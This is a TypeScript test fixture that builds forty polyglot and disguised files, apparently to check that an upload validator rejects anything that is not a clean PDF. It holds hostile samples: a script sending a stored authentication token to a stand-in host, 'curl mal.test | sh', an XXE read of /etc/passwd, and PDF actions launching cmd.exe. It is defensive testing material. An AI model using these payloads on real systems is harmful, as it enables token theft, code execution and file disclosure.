/** Forty files that are two things at once, or not what their name says (security S15). */

const text = (content: string) => Buffer.from(content, 'latin1')
const PDF = '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n'
const EOF = '\ntrailer<</Root 1 0 R>>\n%%EOF'
const HTML = '<!doctype html><script>fetch("//mal.test/"+localStorage.authentication)</script>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
const ZIP = 'PK\u0003\u0004'
const DOCX = `${ZIP}[Content_Types].xml word/document.xml`
const GIF = 'GIF89a/*'
const PNG = '\u0089PNG\r\n\u001a\n'
const JPEG = '\u00ff\u00d8\u00ff\u00e0'
const ELF = '\u007fELF'
const EXE = 'MZ\u0090'

const contents: Readonly<Record<string, string>> = {
  'html as pdf': HTML,
  'svg as pdf': SVG,
  'javascript as pdf': 'alert(1)//%PDF-1.4',
  'html before pdf': `${HTML}${PDF}${EOF}`,
  'html inside pdf': `${PDF}${HTML}${EOF}`,
  'html after pdf': `${PDF}${EOF}${HTML}`,
  'pdf without end': PDF,
  'pdf with javascript action': `${PDF}<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>${EOF}`,
  'pdf with launch action': `${PDF}<</OpenAction<</S/Launch/F(cmd.exe)>>>>${EOF}`,
  'pdf with embedded file': `${PDF}<</EmbeddedFiles<</Names[(x.exe)]>>>>${EOF}`,
  'pdf with xfa': `${PDF}<</AcroForm<</XFA 2 0 R>>>>${EOF}`,
  'pdf header only': '%PDF-',
  'pdf header in lower case': `%pdf-1.4${EOF}`,
  'pdf after a byte order mark': `\u00ef\u00bb\u00bf${PDF}${EOF}`,
  'pdf after spaces': `   ${PDF}${EOF}`,
  'pdf after null bytes': `\u0000\u0000${PDF}${EOF}`,
  postscript: '%!PS-Adobe-3.0\nshowpage',
  'gif as pdf': `${GIF}${PDF}${EOF}`,
  'png as pdf': `${PNG}${PDF}${EOF}`,
  'jpeg as pdf': `${JPEG}${PDF}${EOF}`,
  'gif with javascript': `${GIF}*/=alert(1)//`,
  'program for windows': `${EXE}${PDF}${EOF}`,
  'program for linux': `${ELF}${PDF}${EOF}`,
  'shell script': '#!/bin/sh\ncurl mal.test | sh',
  'plain zip': `${ZIP}qualquer.txt`,
  'zip bomb without a document': `${ZIP}${'\u0000'.repeat(4096)}`,
  jar: `${ZIP}META-INF/MANIFEST.MF`,
  xlsx: `${ZIP}[Content_Types].xml xl/workbook.xml`,
  pptx: `${ZIP}[Content_Types].xml ppt/presentation.xml`,
  'docx with macros': `${DOCX} word/vbaProject.bin`,
  'docx with html': `${DOCX}${HTML}`,
  'docx before pdf': `${DOCX}${PDF}${EOF}`,
  'pdf before docx': `${PDF}${EOF}${DOCX}`,
  'old word document': '\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1',
  rtf: '{\\rtf1\\object\\objupdate}',
  'xml with entities':
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  mht: 'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  'html application': '<hta:application/><script language=vbscript>x</script>',
  'mp4 as pdf': '\u0000\u0000\u0000\u0018ftypisom',
  'empty but for spaces': '      ',
}

export const polyglots = Object.entries(contents).map(([nome, content]) => ({
  nome,
  conteudo: text(content),
}))
